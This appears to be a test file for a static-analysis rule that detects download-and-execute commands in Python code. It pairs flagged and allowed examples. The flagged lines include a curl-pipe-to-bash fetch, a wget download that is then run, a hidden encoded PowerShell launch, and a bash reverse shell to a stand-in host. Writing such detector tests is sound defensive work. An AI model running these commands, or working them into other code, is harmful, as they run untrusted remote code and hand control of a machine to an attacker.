# ruleid: py-download-command
os.system("curl -s https://host.invalid/i.sh | bash")
# ruleid: py-download-command
command = "wget -q https://host.invalid/x -O /tmp/x; chmod +x /tmp/x && /tmp/x"
# ruleid: py-download-command
run("powershell -WindowStyle Hidden -EncodedCommand QUJDREVGR0hJSktMTU5PUA==")
# ruleid: py-download-command
run(["bash", "-c", "bash -i >& /dev/tcp/host.invalid/443 0>&1"])
# ok: py-download-command
log("use curl or wget to fetch https://host.invalid/")
# ok: py-download-command
run("curl -fsSLo data.csv https://host.invalid/data.csv")
